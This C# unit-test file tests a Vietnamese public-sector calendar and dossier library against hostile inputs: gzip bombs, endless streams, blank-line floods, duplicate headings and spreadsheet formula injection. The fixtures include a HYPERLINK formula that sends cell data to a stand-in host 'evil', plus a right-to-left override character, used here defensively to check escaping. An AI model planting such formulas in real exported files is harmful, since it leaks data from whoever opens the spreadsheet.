using System.IO.Compression;
using System.Text;
using Cchc.Core.Calendars;
using Cchc.Core.Exchange.Calendars;
using Cchc.Core.Exchange.Catalogues;
using Cchc.Core.Exchange.Components;
using Cchc.Core.Exchange.Costs;
using Cchc.Core.Exchange.Dossiers;
using Cchc.Core.Exchange.Reading;
using Cchc.Core.Exchange.Writing;
using Cchc.Core.Reading;
using Cchc.Core.Text;

namespace Cchc.Core.Tests.Exchange;

/// <summary>One clear answer in every format to gzip, UTF-16, files without end, names given twice, and marks that turn the direction of writing.</summary>
public sealed class HostileFilesTests
{
    private const string Layer = """
        {"format":"cchc-calendar/1","id":"qn","version":"2026.01.01","documents":[{"id":"d","kind":"Công văn","number":"1/UBND","issuer":"UBND","issuedOn":"2026-09-01"}],
        "add":[{"id":"x","date":"2026-09-10","kind":"localClosure","nameVi":"=HYPERLINK(\"http://evil/?\"&A1;\"Bão\")","nameEn":"@SUM(1)","documents":[{"ref":"d"}],"decidedOn":"2026-09-09"}]}
        """;

    private static readonly (string Name, Func<Stream, IReadOnlyList<Finding>> Read)[] Readers =
    [
        ("layer", content => CalendarLayer.Check(content, "a", WorkingCalendar.VietnamPublicSector)),
        ("events", content => DossierEventReader.Read(content, "a").Findings),
        ("dossier", content => DossierReader.ReadDraft(content, "a").Findings),
        ("rules", content => DossierRulesReader.Read(content, "a").Findings),
        ("plan", content => CostPlanReader.Read(content, "a").Findings),
        ("portfolio", content => PortfolioReader.Read(content, "a").Findings),
        ("incomes", content => IncomeTableReader.Read(content, "a").Findings),
        ("table", content => PublishedTableReader.Read(content, "a").Findings),
        ("catalogue", content => CatalogueFiles.Read(content, out _).Findings),
    ];

    public static TheoryData<int> All => [.. Enumerable.Range(0, Readers.Length)];

    [Theory]
    [MemberData(nameof(All))]
    public void Utf16_has_one_answer(int reader)
    {
        using var content = new MemoryStream(Encoding.Unicode.GetBytes("\uFEFF{\"a\":1}"));
        var text = Readers[reader].Read(content).Should().ContainSingle("of {0}", Readers[reader].Name).Which.Text.En;
        if (Readers[reader].Name == "table")
        {
            text.Should().Be("this is JSON; a table with a heading is needed, CSV or a workbook", "tables are read as spreadsheets save them, UTF-16 too");
            return;
        }

        text.Should().Be("the file is UTF-16: save it as UTF-8");
    }

    [Theory]
    [MemberData(nameof(All))]
    public void Gzip_is_unpacked_and_cut_short_it_says_so(int reader)
    {
        const string nothing = "{\"a\":1}";
        var packed = Packed(nothing);
        using var plain = new MemoryStream(Encoding.UTF8.GetBytes(nothing));
        using var whole = new MemoryStream(packed);
        Readers[reader].Read(whole).Should().Equal(Readers[reader].Read(plain), "of {0}", Readers[reader].Name);
        using var cut = new MemoryStream(packed, 0, packed.Length - 3);
        Readers[reader].Read(cut).Should().Contain(finding => finding.Text.En == "the gzip data does not end as it should: the file may be cut short", "of {0}", Readers[reader].Name);
    }

    [Theory]
    [MemberData(nameof(All))]
    public void A_file_without_end_ends_in_one_finding_and_little_memory(int reader)
    {
        using var content = new Endless();
        var before = GC.GetAllocatedBytesForCurrentThread();
        Readers[reader].Read(content).Should().ContainSingle("of {0}", Readers[reader].Name).Which.Severity.Should().Be(FindingSeverity.Error);
        (GC.GetAllocatedBytesForCurrentThread() - before).Should().BeLessThan(100L << 20);
    }

    [Fact]
    public void Gigabytes_of_blank_lines_end_after_a_million()
    {
        using var lines = new MemoryStream(Packed(new string('\n', FileContent.MostBlankLines + 10) + "{\"code\":\"1.000001\"}"));
        var finding = CatalogueFiles.Read(lines, out _).Findings.Should().ContainSingle().Subject;
        (finding.Code, finding.Text.En).Should().Be(("CCHC-FILE-005", "more than 1000000 blank lines in a row, reading stopped here"));
        using var fewer = new MemoryStream(Packed(new string('\n', FileContent.MostBlankLines - 10) + "{\"code\":\"1.000001\",\"name\":\"x\"}"));
        CatalogueFiles.Read(fewer, out _).Procedures.Should().ContainSingle();
        using var array = new MemoryStream(Packed("[" + new string('\n', 17 << 20)));
        CatalogueFiles.Read(array, out _).Findings.Should().ContainSingle().Which.Code.Should().Be("CCHC-FILE-005");
    }

    [Fact]
    public void Records_without_end_end_at_the_limit()
    {
        foreach (var (head, record, between, end) in new[]
        {
            ("", "{\"code\":\"1.000001\",\"name\":\"x\"}", "\n", ""),
            ("{\"result\":[", "{\"MATTHC\":\"1.000001\"}", ",", "],\"error_code\":0}"),
            ("{\"format\":\"cchc-catalogue/1\"}\n", "{\"procedure\":{\"code\":\"1.000001\"}}", "\n", ""),
        })
        {
            using var content = new MemoryStream(Encoding.UTF8.GetBytes(head + string.Join(between, Enumerable.Repeat(record, RecordLimit.MostRecords + 5)) + end));
            var catalogue = CatalogueFiles.Read(content, out _);
            catalogue.Procedures.Should().HaveCount(RecordLimit.MostRecords);
            catalogue.Findings.Should().Contain(finding => finding.Code == "CCHC-FILE-009");
        }
    }

    [Fact]
    public void A_heading_given_twice_is_refused()
    {
        Twice(content => PortfolioReader.Read(content, "a").Findings, "name,year,method,currency,before,after,x,X\nT,2025,statutory,VND,1,1,,\n");
        Twice(content => IncomeTableReader.Read(content, "a").Findings, "year,series,hourly_vnd,source,year\n2025,s,1,x,2026\n");
        Twice(content => PublishedTableReader.Read(content, "a").Findings, "Tên,Số ngày trước,Số ngày sau,Số ngày sau\nA,5,4,3\n");

        static void Twice(Func<Stream, IReadOnlyList<Finding>> read, string text)
        {
            using var content = new MemoryStream(Encoding.UTF8.GetBytes(text));
            read(content).Should().Contain(finding => finding.Severity == FindingSeverity.Error && finding.Text.En.StartsWith("duplicate column heading"));
        }
    }

    [Fact]
    public void A_file_of_a_folder_that_cannot_be_read_is_named_and_the_others_are_read()
    {
        var content = PortfolioFolder.Read([("a.csv", new Broken()), ("b.csv", new MemoryStream(Packed("name,year,method,currency,before,after\nT,2025,statutory,VND,2,1\n")))]);
        content.Refused.Should().Equal("a.csv");
        content.Findings.Should().Contain(finding => finding.Code == "CCHC-FILE-007" && finding.Place == "a.csv");
        content.Portfolio.Rows.Should().ContainSingle();
    }

    [Theory]
    [InlineData("=HYPERLINK(\"x\")", "\"'=HYPERLINK(\"\"x\"\")\"")]
    [InlineData("@SUM(1)", "'@SUM(1)")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData(" =1", "' =1")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\n=1", "\"'\n=1\"")]
    [InlineData("＝1", "'＝1")]
    [InlineData("- Giấy", "'- Giấy")]
    [InlineData("-12.5", "-12.5")]
    [InlineData("+84", "+84")]
    [InlineData("-1.", "'-1.")]
    [InlineData("-", "'-")]
    [InlineData("a\u001b[31m\u202Eb\u0000", "a\uFFFD[31m\uFFFDb\uFFFD")]
    [InlineData("Bão", "Bão")]
    public void A_cell_is_no_formula_and_steers_nothing(string text, string cell) => CsvText.Cell(text).Should().Be(cell);

    [Fact]
    public void The_names_of_a_layer_are_guarded_in_the_calendar_as_CSV()
    {
        using var layer = new MemoryStream(Encoding.UTF8.GetBytes(Layer));
        var csv = CalendarCsvWriter.Write(WorkingCalendar.VietnamPublicSector.With(CalendarLayer.Load(layer, "a")), new(2026, 9, 10), new(2026, 9, 10));
        csv.Should().StartWith("\uFEFFdate,").And.Contain("\"'=HYPERLINK(\"\"http://evil/?\"\"&A1;\"\"Bão\"\")\",'@SUM(1),");
        using var turned = new MemoryStream(Encoding.UTF8.GetBytes(Layer.Replace("@SUM(1)", "a\u202Eb")));
        CalendarLayer.Check(turned, "a", WorkingCalendar.VietnamPublicSector).Should().ContainSingle().Which.Code.Should().Be("CCHC-CAL-026");
    }

    private static byte[] Packed(string text)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            gzip.Write(Encoding.UTF8.GetBytes(text));
        }

        return packed.ToArray();
    }

    private sealed class Endless : MemoryStream
    {
        public override int Read(byte[] buffer, int offset, int count)
        {
            Array.Clear(buffer, offset, count);
            return count;
        }
    }

    private sealed class Broken : MemoryStream
    {
        public override int Read(byte[] buffer, int offset, int count) => throw new IOException("broken");
    }
}
